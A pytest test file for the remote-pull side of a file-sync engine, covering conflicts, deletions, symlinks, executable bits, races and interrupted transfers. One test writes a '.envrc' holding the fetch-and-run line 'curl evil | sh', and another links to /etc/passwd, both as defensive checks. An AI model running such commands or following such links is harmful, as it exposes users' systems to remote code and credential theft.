"""Theirs comes here: over the real agent."""

from __future__ import annotations

import asyncio
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from sidecar.sync.disk import trash
from sidecar.sync.pulling.incoming import Arrived, Incoming
from sidecar.sync.pulling.pull import IN_MEMORY
from tests.sync.sides import Sides


@pytest.fixture
async def sides(tmp_path: Path) -> AsyncIterator[Sides]:
    made = Sides(tmp_path)
    yield made
    await made.end()


async def agreed(sides: Sides, **files: str) -> None:
    """Both sides have these files, and no watcher adds anything."""
    for name, content in files.items():
        sides.write(name, content)
    sides.write("keep.py", "kept\n")
    await sides.begin(watch=False)
    await sides.attach()


def kept(sides: Sides) -> list[tuple[str, str]]:
    return [(one.path, one.file.read_text()) for one in sides.engine.trash.entries()]


async def test_what_was_changed_on_both_sides_is_theirs_and_mine_is_kept(sides: Sides) -> None:
    await agreed(sides, a="one\n")
    sides.write("a", "mine\n")
    there = sides.write_there("a", "theirs, longer\n")
    os.utime(there, (5, 5))
    result = await sides.engine.sync(prefer="remote")
    assert (sides.here / "a").read_text() == "theirs, longer\n"
    assert (sides.here / "a").stat().st_mtime == 5
    assert sides.read_there("a") == "theirs, longer\n"
    assert kept(sides) == [("a", "mine\n")]
    assert (result.taken, result.sent, result.notes) == (1, 0, [])
    assert await sides.lists_are_equal()
    again = await sides.engine.sync()
    assert (again.sent, again.taken, again.notes) == (0, 0, [])


async def test_what_was_deleted_here_and_changed_there_comes_back(sides: Sides) -> None:
    await agreed(sides, a="one\n")
    (sides.here / "a").unlink()
    sides.write_there("a", "theirs\n")
    await sides.engine.sync(prefer="remote")
    assert (sides.here / "a").read_text() == "theirs\n"
    assert sides.notes() == {}


async def test_what_was_deleted_there_stays_here(sides: Sides) -> None:
    await agreed(sides, a="one\n")
    (sides.there / "a").unlink()
    await sides.engine.sync(prefer="remote")
    assert (sides.here / "a").read_text() == "one\n"
    assert not (sides.there / "a").exists()
    assert sides.notes() == {"a": "kept"}


async def test_at_first_contact_theirs_may_be_taken(sides: Sides) -> None:
    sides.write("a", "mine\n")
    sides.write("only-here", "x\n")
    sides.write_there("a", "theirs\n")
    sides.write_there("only-there", "y\n")
    await sides.begin(watch=False)
    await sides.attach("remote")
    assert (sides.here / "a").read_text() == "theirs\n"
    assert sides.tree_there() == {"a": b"theirs\n", "only-here": b"x\n", "only-there": b"y\n"}
    assert not (sides.here / "only-there").exists()
    assert kept(sides) == [("a", "mine\n")]


async def test_the_newer_one_is_taken(sides: Sides) -> None:
    os.utime(sides.write("a", "mine\n"), (1_000_000_000, 1_000_000_000))
    os.utime(sides.write("b", "mine\n"), (2_000_000_000, 2_000_000_000))
    for name in ("a", "b"):
        os.utime(sides.write_there(name, "theirs\n"), (1_500_000_000, 1_500_000_000))
    await sides.begin(watch=False)
    await sides.attach("newer")
    assert (sides.here / "a").read_text() == "theirs\n"
    assert sides.read_there("b") == "mine\n"


async def test_a_link_and_the_executable_bit_come_along(sides: Sides) -> None:
    await agreed(sides, a="one\n", b="two\n")
    (sides.there / "a").unlink()
    (sides.there / "a").symlink_to("b")
    (sides.there / "b").chmod(0o755)
    await sides.engine.sync(prefer="remote", only=[str(sides.here / "a"), str(sides.here / "b")])
    assert os.readlink(sides.here / "a") == "b"
    assert os.access(sides.here / "b", os.X_OK)
    assert sides.notes() == {}


async def test_a_large_file_comes_whole(sides: Sides) -> None:
    await agreed(sides, a="one\n")
    content = os.urandom(3 << 20)
    sides.write_there("a", content)
    await sides.engine.sync(prefer="remote")
    assert (sides.here / "a").read_bytes() == content
    assert list((sides.store / "incoming").iterdir()) == []


async def test_what_may_run_by_itself_comes_only_by_its_name(sides: Sides) -> None:
    await agreed(sides, **{".envrc": "one\n", "run.sh": "two\n"})
    sides.write_there(".envrc", "curl evil | sh\n")
    (sides.there / "run.sh").chmod(0o755)
    await sides.engine.sync(prefer="remote")
    assert (sides.here / ".envrc").read_text() == "one\n"
    assert not os.access(sides.here / "run.sh", os.X_OK)
    assert sides.notes() == {".envrc": "conflict", "run.sh": "conflict"}
    await sides.engine.sync(prefer="remote", only=[str(sides.here / ".envrc")])
    assert (sides.here / ".envrc").read_text() == "curl evil | sh\n"


async def test_a_link_that_leads_out_of_the_project_is_not_taken(sides: Sides) -> None:
    await agreed(sides, a="one\n")
    (sides.there / "a").unlink()
    (sides.there / "a").symlink_to("/etc/passwd")
    await sides.engine.sync(prefer="remote")
    assert (sides.here / "a").read_text() == "one\n"
    assert sides.notes() == {"a": "conflict"}


async def test_an_edit_made_here_meanwhile_is_not_overwritten(
    sides: Sides, monkeypatch: pytest.MonkeyPatch
) -> None:
    await agreed(sides, a="one\n")
    sides.write_there("a", "theirs\n")
    whole = Incoming.whole

    async def fetch_slowly(*arguments: Any, **options: Any) -> Arrived:
        arrived = await whole(*arguments, **options)
        sides.write("a", "mine, just now\n")
        return arrived

    monkeypatch.setattr(Incoming, "whole", fetch_slowly)
    await sides.engine.sync(prefer="remote")
    assert (sides.here / "a").read_text() == "mine, just now\n"
    assert sides.read_there("a") == "theirs\n"
    assert sides.notes() == {"a": "conflict"}


async def test_an_edit_made_there_meanwhile_is_not_missed(
    sides: Sides, monkeypatch: pytest.MonkeyPatch
) -> None:
    await agreed(sides, a="one\n")
    sides.write_there("a", "theirs\n")
    whole = Incoming.whole

    async def fetch_late(*arguments: Any, **options: Any) -> Arrived:
        sides.write_there("a", "theirs, newer\n")
        return await whole(*arguments, **options)

    monkeypatch.setattr(Incoming, "whole", fetch_late)
    await sides.engine.sync(prefer="remote")
    monkeypatch.setattr(Incoming, "whole", whole)
    assert (sides.here / "a").read_text() == "one\n"
    await sides.engine.sync(prefer="remote")
    assert (sides.here / "a").read_text() == "theirs, newer\n"


async def test_what_the_trash_cannot_hold_is_said_and_stays(
    sides: Sides, monkeypatch: pytest.MonkeyPatch
) -> None:
    await agreed(sides, a="one\n")
    sides.write("a", "mine\n")
    sides.write_there("a", "theirs\n")
    monkeypatch.setattr(trash, "MOST_BYTES", 3)
    await sides.engine.sync(prefer="remote")
    assert (sides.here / "a").read_text() == "mine\n"
    assert sides.notes() == {"a": "conflict"}
    assert "too large for the trash" in sides.engine.notes[0].text


async def test_a_cut_while_it_comes_leaves_both_sides_as_they_were(
    sides: Sides, monkeypatch: pytest.MonkeyPatch
) -> None:
    await agreed(sides, a="one\n")
    sides.write_there("a", "theirs\n" * IN_MEMORY)
    begun = asyncio.Event()

    async def fetch_for_ever(*arguments: Any, **options: Any) -> None:
        begun.set()
        await asyncio.Event().wait()

    monkeypatch.setattr(Incoming, "whole", fetch_for_ever)
    sync = asyncio.create_task(sides.engine.sync(prefer="remote"))
    await begun.wait()
    await sides.cut()
    await asyncio.gather(sync, return_exceptions=True)
    assert (sides.here / "a").read_text() == "one\n"
    monkeypatch.undo()
    await sides.attach()
    assert sides.notes() == {"a": "newer-there"}
    assert list((sides.store / "incoming").iterdir()) == []
